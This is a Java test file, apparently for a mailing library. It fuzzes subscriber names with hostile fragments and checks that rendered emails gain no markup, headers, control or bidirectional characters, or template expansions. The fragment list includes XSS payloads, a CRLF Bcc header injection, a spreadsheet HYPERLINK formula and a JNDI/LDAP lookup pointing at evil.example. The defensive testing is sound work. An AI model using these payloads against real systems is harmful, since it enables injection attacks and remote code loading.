package dev.sluice.mail;

import static dev.sluice.mail.MailFixtures.MAIL;
import static dev.sluice.mail.MailFixtures.OFFERS;
import static dev.sluice.mail.MailFixtures.campaign;
import static dev.sluice.mail.MailFixtures.subscriber;
import static dev.sluice.mail.MailFixtures.variant;
import static org.assertj.core.api.Assertions.assertThat;

import dev.sluice.core.subscriber.AttributeValue;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

@Tag("slow")
@DisplayName("Whatever somebody fills in as a name")
class HostileInputTest {

  private static final int SEEDED = 2_000;

  private static final List<String> PIECES =
      List.of(
          "<script>alert(1)</script>",
          "<img src=x onerror=alert(1)>",
          "</p></body></html>",
          "\" onmouseover=\"alert(1)",
          "' style='x:expression(1)",
          "javascript:alert(1)",
          "<!--",
          "]]>",
          "&lt;b&gt;&#60;i&#62;",
          "{{unsubscribe_url}}",
          "{{{postal_address}}}",
          "{{#vip}}{{/vip}}",
          "{{=<% %>=}}",
          "\r\nBcc: all@example.com\r\n\r\n",
          "\n.\n",
          "\u0000",
          "\u001B[2J",
          "\u0085",
          "\u2028",
          "\u202Egpj.exe",
          "\u2066x\u2069",
          "\u200F",
          "\uD800",
          "\uFEFF",
          "=HYPERLINK(\"https://evil.example\")",
          "%s%n${jndi:ldap://evil.example}",
          "שלום",
          "王",
          "🎵",
          " ",
          "-- ",
          "a");

  private static final String HTML =
      """
      <html><head><title>{{name}}</title></head><body><p title="{{name}}">Hi {{name}}</p>
      <a href="https://shop.example/?q={{name}}" title='{{name}}'>x</a>
      <a href="{{unsubscribe_url}}">leave</a> {{postal_address}}</body></html>
      """;

  private static final CampaignTemplates TEMPLATES =
      CampaignTemplates.compile(
          campaign(Map.of("name", "you"), variant("Hi {{name}}, it is us", HTML, "Hi {{name}},")));

  private static final MailMessage HARMLESS = mail("Ann");

  @Test
  @DisplayName("adds no tag, no attribute, no header, no line and no turn of direction to the mail")
  void addsNoMarkupHeaderOrLine() {
    assertThat(names())
        .allSatisfy(name -> {
          MailMessage message = mail(name);
          assertThat(markup(message.html())).isEqualTo(markup(HARMLESS.html()));
          assertThat(message.subject()).startsWith("Hi ").endsWith(", it is us");
          assertThat(message.subject()).doesNotContainPattern("[\\p{Cc}\\u2028\\u2029]");
          assertThat(List.of(message.subject(), message.html(), message.text()))
              .allSatisfy(part ->
                  assertThat(part)
                      .doesNotContainPattern("[\\p{Cc}\\p{Cs}&&[^\\n\\t]]")
                      .doesNotContainPattern("[\\u202A-\\u202E\\u2066-\\u2069]"));
          assertThat(message.headers()).isEqualTo(HARMLESS.headers());
          assertThat(message.tags()).isEqualTo(HARMLESS.tags());
          assertThat(message.to()).isEqualTo(HARMLESS.to());
        });
  }

  @Test
  @DisplayName("is no template: names in braces are shown as they are")
  void isNotInterpretedAsTemplate() {
    assertThat(names())
        .allSatisfy(name -> {
          MailMessage message = mail(name);
          assertThat(count(message.text(), "/u/")).isEqualTo(count(HARMLESS.text(), "/u/"));
          assertThat(count(message.html(), "/u/")).isEqualTo(count(HARMLESS.html(), "/u/"));
          assertThat(count(message.html(), "{{")).isEqualTo(4 * count(name, "{{"));
          assertThat(count(message.html(), "%7B%7B"))
              .as("in the query of a link")
              .isEqualTo(count(name, "{{"));
        });
  }

  private static Stream<String> names() {
    Random random = new Random(20261126);
    return Stream.concat(PIECES.stream(), Stream.generate(() -> name(random)).limit(SEEDED));
  }

  private static String name(Random random) {
    return IntStream.range(0, 1 + random.nextInt(6))
        .mapToObj(_ -> PIECES.get(random.nextInt(PIECES.size())))
        .collect(Collectors.joining());
  }

  private static MailMessage mail(String name) {
    return MAIL.compose(
        TEMPLATES, OFFERS, subscriber(Map.of("name", new AttributeValue.Text(name))));
  }

  /** What a browser would take for markup: whatever it makes of the text between, it is text. */
  private static String markup(String html) {
    return html.replaceAll("[^<>\"']", "");
  }

  private static long count(String text, String part) {
    return text.split(Pattern.quote(part), -1).length - 1L;
  }
}
